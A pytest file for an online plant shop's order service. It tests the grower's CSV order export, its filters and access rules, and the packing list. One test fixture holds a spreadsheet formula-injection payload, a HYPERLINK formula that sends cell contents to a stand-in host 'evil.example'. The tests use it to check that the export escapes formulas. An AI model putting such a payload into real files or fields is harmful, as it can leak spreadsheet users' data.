"""The grower's desk: the orders as an Excel-friendly CSV file, and the packing list. A real catalog
answers the reservations; the orders are moved through their states by the real endpoints."""

from __future__ import annotations

import codecs
import csv
import datetime as dt
import io
import uuid

import pytest

from services.orders.desk import csvfile
from services.orders.desk import service as desk
from tests.orders.market import BUYER, GROWER, ORDER, market
from tests.support.auth import auth

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")'
SEN = {"name": "Sen Nhật", "description": "Sen mini", "category": "lotus", "status": "active",
       "variants": [{"label": "Củ", "retail_price": 60000, "stock": 50}]}


def rows_of(resp) -> list[list[str]]:
    assert resp.content.startswith(codecs.BOM_UTF8), resp.content[:10]
    text = resp.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def local(iso: str) -> str:
    return dt.datetime.fromisoformat(iso).astimezone(dt.timezone(dt.timedelta(hours=7))).strftime("%Y-%m-%d %H:%M")


@pytest.fixture
async def shop(db_urls):
    """Five orders: A placed (buyer), B confirmed, C shipped, D cancelled, E placed (by phone)."""
    async with market(db_urls) as m:
        sen = (await m.catalog.post("/api/v1/products", json=SEN, headers=GROWER)).json()["variants"][0]["id"]

        async def place(lines, **body) -> dict:
            resp = await m.place(lines, **body)
            assert resp.status_code == 201, resp.text
            return resp.json()

        async def act(order: dict, *actions: str) -> None:
            for action in actions:
                resp = await m.orders.post(f"/api/v1/orders/{order['id']}/{action}", headers=GROWER)
                assert resp.status_code == 200, resp.text

        a = await place([{"variant_id": m.tuber, "quantity": 3}, {"variant_id": m.pot, "quantity": 1}],
                        headers=BUYER)
        b = await place([{"variant_id": m.tuber, "quantity": 10}], payment_method="bank_transfer",
                        address={"province_code": "92", "ward_code": "31135", "street": "1 Hòa Bình"})
        c = await place([{"variant_id": m.tuber, "quantity": 2}, {"variant_id": sen, "quantity": 1}])
        d = await place([{"variant_id": m.tuber, "quantity": 5}])
        phone = await m.orders.post("/api/v1/orders/phone", headers={**GROWER, "Idempotency-Key": uuid.uuid4().hex},
                                    json={**ORDER, "lines": [{"variant_id": sen, "quantity": 2}],
                                          "contact": {"name": EVIL_NAME, "phone": "0912 000 111"},
                                          "note": "@SUM(A1) giao buổi sáng"})
        assert phone.status_code == 201, phone.text
        e = phone.json()
        await act(b, "confirm")
        await act(c, "confirm", "ship")
        await act(d, "cancel")
        await act(a, "mark-paid")
        m.extra.update(a=a, b=b, c=c, d=d, e=e, sen=sen)
        yield m


# ---- The CSV export ----------------------------------------------------------------------------------

async def test_export_is_excel_friendly_csv(shop) -> None:
    resp = await shop.orders.get("/api/v1/orders/export.csv", headers=GROWER)
    assert resp.status_code == 200, resp.text
    assert resp.headers["content-type"] == "text/csv; charset=utf-8"
    assert resp.headers["content-disposition"].startswith('attachment; filename="don-hang-')
    assert resp.content.startswith(codecs.BOM_UTF8 + "Mã đơn,".encode())
    assert b"\r\n" in resp.content
    rows = rows_of(resp)
    assert rows[0] == list(csvfile.ORDER_COLUMNS["vi"])
    x = shop.extra
    assert [r[0] for r in rows[1:]] == [x[k]["code"] for k in "abcde"]  # oldest first
    a = dict(zip(csvfile.ORDER_COLUMNS["en"], rows[1], strict=True))
    assert a["placed_at"] == local(x["a"]["created_at"])
    assert (a["status"], a["payment_status"], a["payment_method"], a["source"]) == (
        "Mới đặt", "Đã thanh toán", "Thanh toán khi nhận hàng (COD)", "Web")
    assert (a["buyer_name"], a["phone"]) == ("Chị Hoa", "0987 654 321")
    assert a["address"] == "5 Hàng Bạc, Phường Ba Đình, Thành phố Hà Nội"
    assert a["lines"] == "Súng Thái đỏ – Củ giống × 3; Súng Thái đỏ – Chậu 30 cm × 1"
    assert (a["subtotal"], a["delivery_fee"], a["total"]) == ("285000", "30000", "315000")
    b = dict(zip(csvfile.ORDER_COLUMNS["en"], rows[2], strict=True))
    assert (b["status"], b["payment_method"], b["total"]) == ("Đã xác nhận", "Chuyển khoản", "395000")
    assert b["address"] == "1 Hòa Bình, Phường Ninh Kiều, Thành phố Cần Thơ"
    assert [r[2] for r in rows[3:5]] == ["Đang giao", "Đã hủy"]


async def test_export_escapes_formulas(shop) -> None:
    rows = rows_of(await shop.orders.get("/api/v1/orders/export.csv", headers=GROWER))
    e = dict(zip(csvfile.ORDER_COLUMNS["en"], rows[5], strict=True))
    assert e["buyer_name"] == "'" + EVIL_NAME
    assert e["note"] == "'@SUM(A1) giao buổi sáng"
    assert e["source"] == "Điện thoại" and e["phone"] == "0912 000 111"
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


@pytest.mark.parametrize("raw,escaped", [
    ("=1+1", "'=1+1"), ("+84912", "'+84912"), ("-2", "'-2"), ("@x", "'@x"), ("\t=1", "'\t=1"),
    ("'=1", "''=1"), ("a=1", "a=1"), ("'quoted'", "'quoted'"), ("", ""),
])
def test_escape(raw: str, escaped: str) -> None:
    assert csvfile.escape(raw) == escaped


async def test_export_english_and_semicolons(shop) -> None:
    resp = await shop.orders.get("/api/v1/orders/export.csv", params={"lang": "en", "delimiter": "semicolon"},
                                 headers=GROWER)
    assert resp.headers["content-disposition"].startswith('attachment; filename="orders-')
    text = resp.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    assert rows[0] == list(csvfile.ORDER_COLUMNS["en"])
    assert [(r[2], r[3], r[4], r[5]) for r in rows[1:3]] == [("placed", "paid", "cod", "web"),
                                                              ("confirmed", "unpaid", "bank_transfer", "web")]


async def codes(shop, **params) -> list[str]:
    resp = await shop.orders.get("/api/v1/orders/export.csv", params=params, headers=GROWER)
    assert resp.status_code == 200, resp.text
    return [r[0] for r in rows_of(resp)[1:]]


async def test_export_filters(shop) -> None:
    x = shop.extra
    assert await codes(shop, status="confirmed") == [x["b"]["code"]]
    assert await codes(shop, status=["confirmed", "shipped"]) == [x["b"]["code"], x["c"]["code"]]
    assert await codes(shop, paid="true") == [x["a"]["code"]]
    assert await codes(shop, paid="false") == [x[k]["code"] for k in "bcde"]
    assert await codes(shop, status="placed", paid="false") == [x["e"]["code"]]
    day = local(x["a"]["created_at"])[:10]  # the Vietnamese day the orders were placed
    assert len(await codes(shop, since=day, until=day)) == 5  # a bare `until` date includes that day
    nxt = (dt.date.fromisoformat(day) + dt.timedelta(days=1)).isoformat()
    assert await codes(shop, since=nxt) == []
    assert await codes(shop, until=(dt.date.fromisoformat(day) - dt.timedelta(days=1)).isoformat()) == []
    placed_b = dt.datetime.fromisoformat(x["b"]["created_at"])
    assert await codes(shop, since=placed_b.isoformat(), until=placed_b.isoformat()) == []
    assert await codes(shop, since=placed_b.isoformat(), status="confirmed") == [x["b"]["code"]]
    # A date-time without an offset is Vietnam time: 7 hours ahead of UTC.
    naive_vn = (placed_b.astimezone(dt.UTC) + dt.timedelta(hours=7, seconds=1)).replace(tzinfo=None)
    assert x["b"]["code"] not in await codes(shop, since=naive_vn.isoformat())
    for bad in ({"since": "yesterday"}, {"until": "2025-02-30"}, {"status": "lost"}, {"paid": "maybe"}):
        resp = await shop.orders.get("/api/v1/orders/export.csv", params=bad, headers=GROWER)
        assert resp.status_code == 422 and resp.headers["content-type"] == "application/problem+json"
        assert resp.json()["errors"][0]["field"].startswith(f"query.{next(iter(bad))}")


async def test_export_streams_in_pages(shop, monkeypatch) -> None:
    monkeypatch.setattr(desk, "PAGE_SIZE", 2)
    pages = [len(p) async for p in desk.iter_orders(shop.orders_app.state.db, desk.DeskFilter(owner="grower-orders-1"))]
    assert pages == [2, 2, 1]
    assert len(await codes(shop)) == 5


async def test_export_is_the_growers_own(shop) -> None:
    other = await shop.orders.get("/api/v1/orders/export.csv", headers=auth("grower-orders-2"))
    assert other.status_code == 200 and rows_of(other) == [list(csvfile.ORDER_COLUMNS["vi"])]
    for who, status in ((BUYER, 403), (auth("grower-orders-1", kind="api_key", scopes=["catalog:read"]), 403),
                        ({}, 401)):
        resp = await shop.orders.get("/api/v1/orders/export.csv", headers=who)
        assert resp.status_code == status and resp.headers["content-type"] == "application/problem+json"
    key = auth("grower-orders-1", kind="api_key", scopes=["orders:read"])
    assert len(rows_of(await shop.orders.get("/api/v1/orders/export.csv", headers=key))) == 6


# ---- The packing list --------------------------------------------------------------------------------

def summary(body: dict) -> list[tuple]:
    return [(i["product_name"], i["variant_label"], i["quantity"], [(o["code"], o["quantity"]) for o in i["orders"]])
            for i in body["items"]]


async def test_packing_list_sums_the_orders_to_pack(shop) -> None:
    x = shop.extra
    resp = await shop.orders.get("/api/v1/orders/packing-list", headers=GROWER)
    assert resp.status_code == 200, resp.text
    body = resp.json()
    a, b, e = x["a"]["code"], x["b"]["code"], x["e"]["code"]
    # Placed and confirmed only (C shipped, D cancelled), by product then variant, accents ignored.
    assert summary(body) == [
        ("Sen Nhật", "Củ", 2, [(e, 2)]),
        ("Súng Thái đỏ", "Chậu 30 cm", 1, [(a, 1)]),
        ("Súng Thái đỏ", "Củ giống", 13, [(a, 3), (b, 10)]),
    ]
    assert body["statuses"] == ["placed", "confirmed"] and body["next_cursor"] is None
    assert body["order_count"] == 3 and body["total_quantity"] == 16
    assert body["items"][2]["order_count"] == 2 and body["items"][2]["variant_id"] == shop.tuber


async def test_packing_list_filters(shop) -> None:
    x = shop.extra
    c = x["c"]["code"]
    shipped = (await shop.orders.get("/api/v1/orders/packing-list", params={"status": "shipped"},
                                     headers=GROWER)).json()
    assert summary(shipped) == [("Sen Nhật", "Củ", 1, [(c, 1)]), ("Súng Thái đỏ", "Củ giống", 2, [(c, 2)])]
    paid = (await shop.orders.get("/api/v1/orders/packing-list", params={"paid": "true"}, headers=GROWER)).json()
    assert [i["quantity"] for i in paid["items"]] == [1, 3]
    day = local(x["a"]["created_at"])[:10]
    later = (dt.date.fromisoformat(day) + dt.timedelta(days=1)).isoformat()
    none = (await shop.orders.get("/api/v1/orders/packing-list", params={"since": later}, headers=GROWER)).json()
    assert none["items"] == [] and none["order_count"] == 0
    other = (await shop.orders.get("/api/v1/orders/packing-list", headers=auth("grower-orders-2"))).json()
    assert other["items"] == []
    assert (await shop.orders.get("/api/v1/orders/packing-list", headers=BUYER)).status_code == 403


async def test_packing_list_csv(shop) -> None:
    resp = await shop.orders.get("/api/v1/orders/packing-list.csv", headers=GROWER)
    assert resp.status_code == 200 and resp.headers["content-type"] == "text/csv; charset=utf-8"
    assert resp.headers["content-disposition"].startswith('attachment; filename="soan-hang-')
    rows = rows_of(resp)
    x = shop.extra
    assert rows[0] == list(csvfile.PACKING_COLUMNS["vi"])
    assert [r[:5] for r in rows[1:]] == [
        ["Sen Nhật", "Củ", "2", "1", f"{x['e']['code']} (2)"],
        ["Súng Thái đỏ", "Chậu 30 cm", "1", "1", f"{x['a']['code']} (1)"],
        ["Súng Thái đỏ", "Củ giống", "13", "2", f"{x['a']['code']} (3), {x['b']['code']} (10)"],
    ]
    english = rows_of(await shop.orders.get("/api/v1/orders/packing-list.csv", params={"lang": "en"},
                                            headers=GROWER))
    assert english[0] == list(csvfile.PACKING_COLUMNS["en"]) and len(english) == 4


# ---- Routes --------------------------------------------------------------------------------------

@pytest.mark.parametrize("path,kind", [
    ("/api/v1/orders/export.csv", "text/csv"), ("/api/v1/orders/packing-list", "application/json"),
    ("/api/v1/orders/packing-list.csv", "text/csv"), ("/api/v1/orders/counts", "application/json"),
])
async def test_static_paths_are_not_taken_for_an_order_id(db_urls, path, kind) -> None:
    async with market(db_urls) as m:
        resp = await m.orders.get(path, headers=GROWER)
        assert resp.status_code == 200, resp.text
        assert resp.headers["content-type"].startswith(kind)
        order = (await m.place([{"variant_id": m.tuber, "quantity": 2}])).json()
        one = await m.orders.get(f"/api/v1/orders/{order['id']}", headers=GROWER)
        assert one.status_code == 200 and one.json()["code"] == order["code"]
        assert (await m.orders.get("/api/v1/orders/export.txt", headers=GROWER)).status_code == 422
    paths = set(m.orders_app.openapi()["paths"])
    assert {"/api/v1/orders/export.csv", "/api/v1/orders/packing-list", "/api/v1/orders/packing-list.csv",
            "/api/v1/orders/{order_id}/payment-qr", "/api/v1/tracking/{token}/payment-qr"} <= paths
